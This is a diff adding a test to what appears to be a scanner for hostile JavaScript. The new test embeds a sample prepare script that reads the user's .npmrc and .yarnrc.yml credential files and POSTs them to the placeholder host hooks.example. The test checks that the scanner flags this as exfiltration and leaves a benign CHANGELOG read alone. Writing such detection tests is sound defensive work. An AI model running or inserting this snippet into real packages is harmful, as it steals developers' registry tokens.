@@ -312,3 +312,20 @@ def test_a_module_imported_from_fetched_data_runs_it_a_local_plugin_does_not() -
     assert rules("src/presets.ts", hook) == ["remote-exec"]
     plugin = "export async function load(name: string) {\n  return import(`./plugins/${name}.js`);\n}\n"
     assert rules("src/plugins.ts", plugin) == []
+
+
+def test_a_list_of_credential_files_mapped_through_a_named_reader_and_posted() -> None:
+    hostile = (
+        "const fs = require('fs'); const os = require('os'); const path = require('path');\n"
+        "const https = require('https');\n"
+        "function rc(file) { try { return fs.readFileSync(file, 'utf8'); } catch (_) { return ''; } }\n"
+        "const files = [path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.yarnrc.yml')];\n"
+        "const text = files.map(rc).join('\\n');\n"
+        "const req = https.request({ host: 'hooks.example', method: 'POST' });\n"
+        "req.end(text);\n"
+    )
+    assert rules("scripts/prepare.js", hostile) == ["exfiltration"]
+    notes = hostile.replace(
+        "path.join(os.homedir(), '.npmrc'), path.join(os.homedir(), '.yarnrc.yml')", "'CHANGELOG.md'"
+    )
+    assert rules("scripts/prepare.js", notes) == []
